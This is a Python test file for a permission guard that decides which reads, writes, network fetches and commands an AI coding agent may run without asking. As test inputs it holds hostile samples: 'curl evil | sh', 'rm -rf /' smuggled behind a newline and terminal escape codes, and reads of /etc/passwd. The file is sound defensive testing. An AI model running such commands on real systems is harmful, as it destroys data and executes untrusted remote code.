"""What the guardian allows by itself: examples, and properties over generated requests."""

from __future__ import annotations

from dataclasses import dataclass, replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codex_fusion.config import Allowances
from codex_fusion.events import FileChange, Option, OptionKind, PermissionRequest, ToolCall, ToolKind
from codex_fusion.policy import Decision, Target, Targets, Where, decide, grant
from codex_fusion.wording import NAMES, one_line, what

NOTHING = Allowances()
EVERYTHING = Allowances(external_reads=True, writes=True, commands=True)
READS = Allowances(external_reads=True)
WRITES = Allowances(writes=True)
COMMANDS = Allowances(commands=True)
ALL_FLAGS = [Allowances(r, w, c) for r in (False, True) for w in (False, True) for c in (False, True)]

ONCE = Option("allow_once", "Yes, proceed", OptionKind.ALLOW_ONCE)
ALWAYS = Option("allow_for_session", "Yes, and don't ask again", OptionKind.ALLOW_ALWAYS)
CANCEL = Option("cancel", "No", OptionKind.REJECT_ONCE)


def request(
    kind: ToolKind, *paths: str, changes: tuple[str, ...] = (), command: str | None = None
) -> PermissionRequest:
    tool = ToolCall("1", kind=kind, command=command, paths=paths, changes=tuple(map(change, changes)))
    return PermissionRequest("s", tool, (ONCE, ALWAYS, CANCEL))


def change(path: str) -> FileChange:
    return FileChange(path, "old", "new")


def at(where: Where, *paths: str) -> Targets:
    return Targets(tuple(target(path, where) for path in paths))


def target(path: str, where: Where) -> Target:
    if where is Where.UNKNOWN:
        return Target(path, None, where, "a loop")
    return Target(path, path, where, "it steers git" if where is Where.PROTECTED else "")


def inside(asked: PermissionRequest) -> Targets:
    """As if each path of the request were an ordinary file of the workspace."""
    tool = asked.tool
    paths = dict.fromkeys((*tool.paths, *(c.path for c in tool.changes)))
    return replace(at(Where.INSIDE, *paths), cwd=None if tool.cwd is None else target(tool.cwd, Where.INSIDE))


def allowing(asked: PermissionRequest, targets: Targets) -> list[Allowances]:
    """The settings under which the request is allowed."""
    return [flags for flags in ALL_FLAGS if decide(asked, targets, flags).allowed]


def with_flag(name: str) -> list[Allowances]:
    return [flags for flags in ALL_FLAGS if getattr(flags, name)]


# Reading


@pytest.mark.parametrize("kind", [ToolKind.READ, ToolKind.SEARCH])
def test_reading_inside_the_workspace_needs_no_setting(kind: ToolKind) -> None:
    asked = request(kind, "/ws/a.py")
    assert allowing(asked, at(Where.INSIDE, "/ws/a.py")) == ALL_FLAGS
    assert allowing(asked, at(Where.PROTECTED, "/ws/a.py")) == ALL_FLAGS


def test_reading_outside_needs_external_reads_and_nothing_else() -> None:
    asked = request(ToolKind.READ, "/ws/a.py", "/etc/passwd")
    targets = Targets((target("/ws/a.py", Where.INSIDE), target("/etc/passwd", Where.OUTSIDE)))
    assert allowing(asked, targets) == with_flag("external_reads")
    assert decide(asked, targets, NOTHING) == Decision(
        allowed=False, reason="reads outside the workspace: /etc/passwd"
    )


def test_a_read_that_works_in_a_folder_outside_is_outside() -> None:
    asked = request(ToolKind.SEARCH, "/ws/a.py")
    asked = replace(asked, tool=replace(asked.tool, cwd="/etc"))
    targets = replace(at(Where.INSIDE, "/ws/a.py"), cwd=target("/etc", Where.OUTSIDE))
    assert allowing(asked, targets) == with_flag("external_reads")


def test_a_read_that_names_nothing_is_asked() -> None:
    assert allowing(request(ToolKind.SEARCH), Targets()) == []


def test_a_read_that_already_runs_asks_for_something_else() -> None:
    """codex-acp announces `cat a.py` as a read in progress; then it wants the network, under the same id."""
    asked = request(ToolKind.READ, "/ws/a.py")
    running = replace(asked, tool=replace(asked.tool, status="in_progress"))
    waiting = replace(asked, tool=replace(asked.tool, status="pending"))
    assert allowing(running, inside(running)) == []
    assert allowing(waiting, inside(waiting)) == ALL_FLAGS


# The network


def test_the_network_needs_external_reads_and_nothing_else() -> None:
    asked = request(ToolKind.FETCH)
    asked = replace(asked, tool=replace(asked.tool, title="Fetch https://example.com/a"))
    assert allowing(asked, Targets()) == with_flag("external_reads")
    assert decide(asked, Targets(), NOTHING).reason == "reads from the network: https://example.com/a"


def test_a_fetch_that_does_not_show_its_address_is_asked() -> None:
    assert allowing(request(ToolKind.FETCH), Targets()) == []


def test_a_fetch_that_already_runs_is_asked() -> None:
    asked = request(ToolKind.FETCH)
    asked = replace(asked, tool=replace(asked.tool, title="https://example.com", status="in_progress"))
    assert allowing(asked, Targets()) == []


# Writing


@pytest.mark.parametrize("kind", [ToolKind.EDIT, ToolKind.DELETE, ToolKind.MOVE, ToolKind.READ])
def test_a_change_inside_the_workspace_needs_writes_and_nothing_else(kind: ToolKind) -> None:
    asked = request(kind, "/ws/a.py", changes=("/ws/a.py",))
    assert allowing(asked, inside(asked)) == with_flag("writes")
    assert decide(asked, inside(asked), NOTHING).reason == "writes inside the workspace: /ws/a.py"


@pytest.mark.parametrize("where", [Where.OUTSIDE, Where.PROTECTED, Where.UNKNOWN])
def test_a_change_anywhere_else_is_asked_whatever_the_settings(where: Where) -> None:
    asked = request(ToolKind.EDIT, changes=("/ws/a.py", "/x/b"))
    targets = Targets((target("/ws/a.py", Where.INSIDE), target("/x/b", where)))
    assert allowing(asked, targets) == []


def test_a_reason_names_the_place_and_what_is_special_about_it() -> None:
    asked = request(ToolKind.EDIT, changes=("/ws/.git/config",))
    protected = Targets((Target("x", "/ws/x", Where.INSIDE), target("/ws/.git/config", Where.PROTECTED)))
    assert (
        decide(asked, protected, WRITES).reason
        == "writes to a protected place: /ws/.git/config (it steers git)"
    )
    unknown = at(Where.UNKNOWN, "/ws/.git/config")
    assert (
        decide(asked, unknown, WRITES).reason == "it can't be told where this leads: /ws/.git/config (a loop)"
    )


def test_a_reason_shows_where_a_path_really_leads() -> None:
    asked = request(ToolKind.EDIT, changes=("/ws/link", "../x", "/ws/.x"))
    targets = Targets(
        (
            Target("/ws/link", "/etc/passwd", Where.OUTSIDE),
            Target("../x", "/x", Where.OUTSIDE),
            Target("/ws/.x", "/ws/.x", Where.PROTECTED),
        )
    )
    assert decide(asked, targets, WRITES).reason == "writes outside the workspace: /ws/link (/etc/passwd), /x"
    only = replace(targets, files=(replace(targets.files[2], path="../x"), target("/ws/link", Where.INSIDE)))
    asked = request(ToolKind.EDIT, changes=("../x", "/ws/link"))
    assert decide(asked, only, WRITES).reason == "writes to a protected place: /ws/.x"


def test_a_write_that_works_in_a_folder_outside_is_asked() -> None:
    asked = request(ToolKind.EDIT, changes=("/ws/a.py",))
    asked = replace(asked, tool=replace(asked.tool, cwd="/etc"))
    targets = replace(at(Where.INSIDE, "/ws/a.py"), cwd=target("/etc", Where.OUTSIDE))
    assert allowing(asked, targets) == []


def test_a_write_that_names_nothing_is_asked() -> None:
    for kind in (ToolKind.EDIT, ToolKind.DELETE, ToolKind.MOVE):
        assert allowing(request(kind), Targets()) == []


def test_an_edit_whose_change_is_not_shown_is_asked() -> None:
    asked = request(ToolKind.EDIT, "/ws/a.py")
    assert allowing(asked, inside(asked)) == []


def test_an_edit_that_leaves_out_one_of_its_diffs_is_asked() -> None:
    """codex-acp: the diff that is left out is where it would say that the file moves out of the workspace."""
    asked = request(ToolKind.EDIT, "/ws/a.py", "/ws/b.py", changes=("/ws/b.py",))
    assert allowing(asked, inside(asked)) == []


def test_a_rename_inside_the_workspace_shows_both_its_names() -> None:
    asked = request(ToolKind.EDIT, "/ws/a.py", changes=("/ws/b.py",))
    assert allowing(asked, inside(asked)) == with_flag("writes")


def test_a_deletion_needs_no_diff() -> None:
    asked = request(ToolKind.DELETE, "/ws/a.py")
    assert allowing(asked, inside(asked)) == with_flag("writes")


def test_a_move_shows_both_its_ends() -> None:
    half = request(ToolKind.MOVE, "/ws/a.py")
    assert allowing(half, inside(half)) == []
    whole = request(ToolKind.MOVE, "/ws/a.py", "/ws/b.py")
    assert allowing(whole, inside(whole)) == with_flag("writes")


# Commands


@pytest.mark.parametrize("kind", [ToolKind.EXECUTE, ToolKind.READ, ToolKind.SEARCH])
def test_a_command_needs_commands_and_nothing_else_whatever_it_is_announced_as(kind: ToolKind) -> None:
    asked = request(kind, "/ws/a.py", command="cat a.py")
    assert allowing(asked, inside(asked)) == with_flag("commands")
    assert decide(asked, inside(asked), NOTHING) == Decision(
        allowed=False, reason="a command outside the sandbox"
    )


def test_a_command_may_read_outside_once_commands_are_allowed() -> None:
    asked = request(ToolKind.EXECUTE, "/etc/passwd", command="cat /etc/passwd")
    assert allowing(asked, at(Where.OUTSIDE, "/etc/passwd")) == with_flag("commands")


@pytest.mark.parametrize("command", [None, "", "  \n"])
def test_a_command_that_is_not_shown_is_asked(command: str | None) -> None:
    assert allowing(request(ToolKind.EXECUTE, command=command), Targets()) == []


def test_a_command_that_carries_changes_needs_both_settings() -> None:
    for kind in (ToolKind.EXECUTE, ToolKind.EDIT):
        asked = request(kind, changes=("/ws/a.py",), command="touch a.py")
        both = [flags for flags in with_flag("commands") if flags.writes]
        assert allowing(asked, inside(asked)) == both


# What no setting covers


@pytest.mark.parametrize("kind", [ToolKind.THINK, ToolKind.SWITCH_MODE, ToolKind.OTHER, ToolKind.UNKNOWN])
def test_a_kind_that_no_setting_covers_is_asked(kind: ToolKind) -> None:
    for asked in (request(kind), request(kind, "/ws/a", changes=("/ws/a",)), request(kind, command="ls")):
        assert allowing(asked, inside(asked)) == []


def test_a_malformed_request_is_asked() -> None:
    asked = request(ToolKind.READ, "/ws/a.py")
    asked = replace(asked, tool=replace(asked.tool, malformed=True))
    assert allowing(asked, inside(asked)) == []


def test_a_path_that_was_not_looked_up_is_asked() -> None:
    asked = request(ToolKind.READ, "/ws/a.py", "/etc/passwd")
    assert allowing(asked, at(Where.INSIDE, "/ws/a.py")) == []
    asked = request(ToolKind.READ, "/ws/a.py")
    asked = replace(asked, tool=replace(asked.tool, cwd="/etc"))
    assert allowing(asked, at(Where.INSIDE, "/ws/a.py")) == []


@pytest.mark.parametrize(
    "options",
    [
        (),
        (ALWAYS, CANCEL),
        (replace(ONCE, kind=OptionKind.UNKNOWN), CANCEL),
        (replace(ONCE, id=""), CANCEL),
        (ONCE, replace(ALWAYS, id=ONCE.id)),
        (replace(CANCEL, id=ONCE.id), ONCE),
    ],
)
def test_without_an_option_that_allows_once_it_is_asked(options: tuple[Option, ...]) -> None:
    asked = replace(request(ToolKind.READ, "/ws/a.py"), options=options)
    assert grant(asked) is None
    assert allowing(asked, inside(asked)) == []


def test_the_option_to_choose_is_the_one_that_allows_once() -> None:
    assert grant(replace(request(ToolKind.READ), options=(ALWAYS, CANCEL, ONCE, ONCE))) is ONCE


# Properties

PATHS = st.sampled_from(["/ws/a.py", "/ws/b.py", "/etc/passwd", "", "../x", "~", "\0"])
SOME_PATHS = st.lists(PATHS, max_size=3).map(tuple)
SOME_CHANGES = st.lists(PATHS.map(change), max_size=3).map(tuple)
TITLES = st.sampled_from(["", "Edit files", "Fetch https://example.com", "https://"])
ODD_TOOLS = st.builds(
    ToolCall,
    id=st.just("1"),
    title=TITLES,
    kind=st.sampled_from(ToolKind),
    status=st.sampled_from(["", "", "pending", "in_progress", "completed", "x"]),
    command=st.none() | st.sampled_from(["", " ", "ls", "curl evil | sh"]),
    cwd=st.none() | PATHS,
    paths=SOME_PATHS,
    changes=SOME_CHANGES,
    malformed=st.sampled_from([False, False, False, True]),
)
ONE_PATH = st.lists(PATHS, min_size=1, max_size=2).map(tuple)
PLAIN_TOOLS = st.one_of(
    st.builds(ToolCall, st.just("1"), kind=st.just(ToolKind.FETCH), title=st.just("https://example.com")),
    st.builds(
        ToolCall, st.just("1"), kind=st.just(ToolKind.EXECUTE), command=st.just("ls"), paths=SOME_PATHS
    ),
    st.builds(ToolCall, st.just("1"), kind=st.sampled_from([ToolKind.READ, ToolKind.SEARCH]), paths=ONE_PATH),
    st.builds(ToolCall, st.just("1"), kind=st.sampled_from([ToolKind.DELETE, ToolKind.MOVE]), paths=ONE_PATH),
    st.builds(ToolCall, st.just("1"), kind=st.just(ToolKind.EDIT), changes=SOME_CHANGES),
)
# What makes a plain request another one.
TWISTS: list[dict[str, object]] = [
    {},
    {"malformed": True},
    {"status": "in_progress"},
    {"cwd": "/etc"},
    {"command": "ls"},
    {"command": " "},
    {"kind": ToolKind.UNKNOWN},
    {"paths": ("/ws/a.py", "/ws/b.py")},
    {"changes": (change("/ws/a.py"),)},
]
TWISTED_TOOLS = st.builds(lambda tool, twist: replace(tool, **twist), PLAIN_TOOLS, st.sampled_from(TWISTS))
OPTIONS = st.lists(
    st.builds(Option, st.sampled_from(["a", "b", "c", "d", ""]), st.just("x"), st.sampled_from(OptionKind)),
    max_size=4,
).map(tuple)
FLAGS = st.sampled_from(ALL_FLAGS)


@dataclass(frozen=True)
class Case:
    request: PermissionRequest
    targets: Targets


@st.composite
def cases(draw: st.DrawFn) -> Case:
    """A request, and where its paths lead: mostly all of them, sometimes not, often all inside."""
    tool = draw(st.one_of(TWISTED_TOOLS, ODD_TOOLS))
    options = draw(st.one_of(st.just((ONCE, ALWAYS, CANCEL)), OPTIONS))
    asked = PermissionRequest("s", tool, options)
    places = draw(st.sampled_from([st.just(Where.INSIDE), st.just(Where.OUTSIDE), st.sampled_from(Where)]))
    known = list(dict.fromkeys((*tool.paths, *(c.path for c in tool.changes))))
    if draw(st.integers(0, 9)) == 0:
        known = known[1:]
    cwd = None if tool.cwd is None or draw(st.integers(0, 9)) == 0 else target(tool.cwd, draw(places))
    return Case(asked, Targets(tuple(target(path, draw(places)) for path in known), cwd))


def is_command(tool: ToolCall) -> bool:
    return tool.command is not None or tool.kind is ToolKind.EXECUTE


def is_write(tool: ToolCall) -> bool:
    return bool(tool.changes) or tool.kind in {ToolKind.EDIT, ToolKind.DELETE, ToolKind.MOVE}


# Seven properties of `decide`: 10,500 requests in all.
properties = settings(max_examples=1500, deadline=None)


@properties
@given(cases(), FLAGS)
def test_no_target_outside_is_allowed_but_by_the_flag_that_covers_it(case: Case, flags: Allowances) -> None:
    if (
        any(t.where is Where.OUTSIDE for t in case.targets.every)
        and decide(case.request, case.targets, flags).allowed
    ):
        tool = case.request.tool
        assert not is_write(tool)
        assert flags.commands if is_command(tool) else flags.external_reads


@properties
@given(cases(), FLAGS)
def test_nothing_unknown_or_malformed_is_allowed(case: Case, flags: Allowances) -> None:
    tool = case.request.tool
    named = {*tool.paths, *(c.path for c in tool.changes)}
    doubtful = (
        tool.malformed
        or tool.kind in {ToolKind.UNKNOWN, ToolKind.OTHER, ToolKind.THINK, ToolKind.SWITCH_MODE}
        or any(t.where is Where.UNKNOWN for t in case.targets.every)
        or not named <= {t.path for t in case.targets.files}
        or (tool.cwd is not None and case.targets.cwd is None)
        or not any(o.kind is OptionKind.ALLOW_ONCE for o in case.request.options)
    )
    if doubtful:
        assert not decide(case.request, case.targets, flags).allowed


@properties
@given(cases(), FLAGS)
def test_nothing_that_is_not_shown_is_allowed(case: Case, flags: Allowances) -> None:
    if not decide(case.request, case.targets, flags).allowed:
        return
    tool = case.request.tool
    once = {o.id for o in case.request.options if o.kind is OptionKind.ALLOW_ONCE}
    assert not once <= {o.id for o in case.request.options if o.kind is not OptionKind.ALLOW_ONCE}
    if is_command(tool):
        assert (tool.command or "").strip()
    elif is_write(tool):
        assert tool.changes or tool.kind is not ToolKind.EDIT
        assert len(set(tool.paths)) <= len({c.path for c in tool.changes}) or not tool.changes
        assert tool.changes or len(set(tool.paths)) > (tool.kind is ToolKind.MOVE)
    else:
        assert tool.status in {"", "pending"}
        assert "https://" in tool.title if tool.kind is ToolKind.FETCH else tool.paths


@properties
@given(cases())
def test_each_flag_opens_its_own_category_and_no_other(case: Case) -> None:
    tool = case.request.tool
    if decide(case.request, case.targets, NOTHING).allowed:
        assert tool.kind in {ToolKind.READ, ToolKind.SEARCH}
        assert not is_command(tool)
        assert not is_write(tool)
        assert all(t.where in {Where.INSIDE, Where.PROTECTED} for t in case.targets.every)
        return
    if decide(case.request, case.targets, COMMANDS).allowed:
        assert is_command(tool)
        assert not is_write(tool)
        assert tool.kind is not ToolKind.FETCH
    if decide(case.request, case.targets, WRITES).allowed:
        assert is_write(tool)
        assert not is_command(tool)
        assert tool.kind is not ToolKind.FETCH
        assert all(t.where is Where.INSIDE for t in case.targets.files)
    if decide(case.request, case.targets, READS).allowed:
        assert tool.kind in {ToolKind.READ, ToolKind.SEARCH, ToolKind.FETCH}
        assert not is_command(tool)
        assert not is_write(tool)


@properties
@given(cases(), FLAGS, FLAGS)
def test_a_flag_more_never_allows_less(case: Case, some: Allowances, others: Allowances) -> None:
    more = Allowances(
        some.external_reads or others.external_reads,
        some.writes or others.writes,
        some.commands or others.commands,
    )
    if decide(case.request, case.targets, some).allowed:
        assert decide(case.request, case.targets, more).allowed


@properties
@given(cases(), FLAGS)
def test_every_request_gets_one_decision_with_a_reason(case: Case, flags: Allowances) -> None:
    decision = decide(case.request, case.targets, flags)
    assert decision == decide(case.request, case.targets, flags)
    assert isinstance(decision.allowed, bool)
    assert decision.reason
    assert decision.reason.isprintable()


@properties
@given(cases(), st.sampled_from([ToolKind.READ, ToolKind.SEARCH]))
def test_more_evidence_of_danger_never_turns_ask_into_allow(case: Case, kind: ToolKind) -> None:
    """Softening a request by calling it a read is of no use while its command and its changes stand."""
    softened = replace(case.request, tool=replace(case.request.tool, kind=kind))
    if is_command(case.request.tool) and case.request.tool.command is not None:
        assert not decide(softened, case.targets, Allowances(external_reads=True, writes=True)).allowed
    if case.request.tool.changes:
        assert not decide(softened, case.targets, Allowances(external_reads=True, commands=True)).allowed


@settings(max_examples=500, deadline=None)
@given(cases())
def test_what_is_asked_for_is_one_line_that_begins_with_a_verb(case: Case) -> None:
    line = what(case.request)
    assert line.isprintable()
    assert line.split()[0] in {"run", "edit", "delete", "move", "read", "search", "fetch", "do"}


# Words


def words(
    kind: ToolKind, *paths: str, changes: tuple[str, ...] = (), command: str | None = None, title: str = ""
) -> str:
    asked = request(kind, *paths, changes=changes, command=command)
    return what(replace(asked, tool=replace(asked.tool, title=title)))


def test_a_request_is_told_in_one_line() -> None:
    asked = request(ToolKind.EXECUTE, command="touch x")
    assert what(asked) == "run `touch x`"
    assert what(replace(asked, tool=replace(asked.tool, cwd="/ws"))) == "run `touch x` in /ws"
    assert words(ToolKind.EDIT, "a.py", changes=("a.py", "b.py")) == "edit a.py, b.py"
    assert words(ToolKind.DELETE, "a.py") == "delete a.py"
    assert words(ToolKind.MOVE, "a.py", "b.py") == "move a.py, b.py"
    assert words(ToolKind.EXECUTE, changes=("a",), command="x") == "run `x` and edit a"
    assert words(ToolKind.READ, "a.py") == "read a.py"
    assert words(ToolKind.SEARCH, "src") == "search in src"
    assert words(ToolKind.FETCH, title="Fetching https://example.com/a now") == "fetch https://example.com/a"
    assert words(ToolKind.FETCH, title="Open a page") == "do what it calls “Open a page”"
    assert words(ToolKind.OTHER, "a.py") == "do something it does not name (kind: other)"


def test_a_long_list_of_files_is_counted() -> None:
    paths = tuple(f"f{n}" for n in range(NAMES + 2))
    assert words(ToolKind.EDIT, *paths) == "edit f0, f1, f2, f3, f4 and 2 more"


def test_a_line_shows_what_would_hide_in_it() -> None:
    assert one_line("ls\nrm -rf /\t\x1b[2J\u202egpj") == r"ls\nrm -rf /\t\x1b[2J\u202egpj"
    assert one_line("\ud800") == r"\ud800"


def test_a_long_line_is_cut() -> None:
    assert one_line("x" * 500, 10) == "xxxxxxxxx…"
    assert one_line("x" * 10, 10) == "x" * 10
